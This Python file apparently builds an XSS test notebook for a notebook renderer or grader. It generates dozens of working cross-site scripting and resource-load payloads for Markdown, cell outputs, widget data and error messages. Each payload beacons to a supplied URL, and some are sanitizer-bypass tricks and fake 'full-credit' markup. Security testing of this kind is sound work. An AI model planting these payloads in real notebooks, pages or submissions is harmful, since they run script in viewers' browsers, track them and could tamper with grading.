"""A learner's notebook of which every cell tries to act in the browser of whoever opens it."""

import base64

OWNED = "owned"


def act(url, name):
    """A line of JavaScript that shows in three ways that it ran."""
    return f"document.title=`{OWNED}`;fetch(`{url}/{name}`);alert(1)"


def in_markdown(url):
    """Name of each attack → Markdown."""
    spy = f"{url}/{{0}}"
    handler = f'<img src="x:" onerror="{act(url, "{0}")}">'
    page = base64.b64encode(f"<script>{act(url, 'srcdoc')}</script>".encode()).decode()
    attacks = {
        "script": f"<script>{act(url, 'script')}</script>",
        "image-handler": handler,
        "svg-handler": f'<svg onload="{act(url, "svg-handler")}"></svg>',
        "details-handler": f'<details open ontoggle="{act(url, "details-handler")}"><summary>x</summary>y</details>',
        "focus-handler": f'<input autofocus onfocus="{act(url, "focus-handler")}">',
        "body-handler": f'<video><source onerror="{act(url, "body-handler")}"></video>',
        "style-handler": f'<style onload="{act(url, "style-handler")}"></style>',
        "iframe": f'<iframe src="{spy}"></iframe>',
        "iframe-srcdoc": f"<iframe srcdoc=\"<img src='{spy}'>\"></iframe>",
        "iframe-script": f'<iframe src="javascript:{act(url, "iframe-script")}"></iframe>',
        "iframe-data": f'<iframe src="data:text/html;base64,{page}"></iframe>',
        "object": f'<object data="{spy}"></object>',
        "embed": f'<embed src="{spy}">',
        "stylesheet": f'<link rel="stylesheet" href="{spy}">',
        "preload": f'<link rel="preload" as="image" href="{spy}">',
        "import": f"<style>@import '{spy}';</style>",
        "refresh": f'<meta http-equiv="refresh" content="0; url={spy}">',
        "image": f"![x]({spy})",
        "image-by-reference": f"![x][there]\n\n[there]: {spy}",
        "image-in-a-link": f"[![x]({spy})](https://example.org)",
        "image-in-a-table": f"| a |\n|:--|\n| ![x]({spy}) |",
        "image-tag": f'<img src="{spy}">',
        "image-set": f'<img srcset="{spy} 1x">',
        "picture": f'<picture><source srcset="{spy}"><img></picture>',
        "poster": f'<video poster="{spy}"></video>',
        "audio": f'<audio src="{spy}" preload="auto"></audio>',
        "image-button": f'<input type="image" src="{spy}">',
        "table-background": f'<table background="{spy}"><tr><td>x</td></tr></table>',
        "style-background": f'<p style="background: url({spy})">x</p>',
        "style-sheet": f"<style>body {{background: url({spy})}}</style>",
        "list-style": f'<ul style="list-style-image: url({spy})"><li>x</li></ul>',
        "mermaid-fence": f"```mermaid\n{handler}\n```",
        "fence-too-short": f"````\n```\n````\n{handler}\n```",
        "comment": f"<!-->{handler}-->",
        "math-tag": f"<math><mtext><table><mglyph><style><!--</style>{handler}",
        "noscript": f'<noscript><p title="</noscript>{handler.replace(chr(34), "&quot;")}">',
        "breaks-out": f"</div></div></div></div>{handler}",
        "link": f"[x](javascript:{act(url, 'link')})",
        "link-behind-files": f'<a href="files/javascript:{act(url, "link-behind-files")}">x</a>',
        "math": f"$\\href{{javascript:{act(url, 'math')}}}{{x}}$",
        "full-credit": '<span class="full-credit">See my figure</span>',
        "name-of-a-field": "# second-test",
    }
    return {name: text.replace("{0}", name) for name, text in attacks.items()}


def in_outputs(url):
    """Name of each attack → what a cell displays: data and metadata."""
    handler = f'<img src="x:" onerror="{act(url, "output")}">'
    png = {"image/png": "iVBORw0KGgo="}
    sized = {"image/png": {"width": f"1 onerror=fetch('{url}/width')"}}
    return {
        "html": ({"text/html": handler + f"<script>{act(url, 'html')}</script>"}, {}),
        "isolated": ({"text/html": f'<img src="{url}/isolated">'}, {"text/html": {"isolated": True}}),
        "javascript": ({"application/javascript": act(url, "javascript")}, {}),
        "svg": (
            {"image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{url}/svg"/></svg>'},
            {},
        ),
        "markdown": ({"text/markdown": f"![x]({url}/markdown)"}, {}),
        "latex": ({"text/latex": f"</div>{handler}"}, {}),
        "width": (png, sized),
        "filename": (png, {"filenames": {"image/png": f"{url}/filename"}}),
        "widget": ({"application/vnd.jupyter.widget-view+json": {"model_id": "</script>" + handler}}, {}),
    }


def answer(url):
    """An answer that is right, and shows all of this while it runs."""
    return f"""\
import sys
from IPython.display import display, publish_display_data
for data, metadata in {list(in_outputs(url).values())!r}:
    publish_display_data(data, metadata)
print("\\x1b[31m<img src=x: onerror={act(url, "print")}>\\x1b[<img src=x: onerror=alert(1)>")
print("<script>alert(1)</script>", file=sys.stderr)

def first(x):
    return x
"""


def error(url):
    """An answer that fails with words that are markup."""
    return f"""\
def second(x):
    raise type("<img src=x: onerror=alert(1)>", (AssertionError,), {{}})({in_markdown(url)["image-handler"]!r})
"""
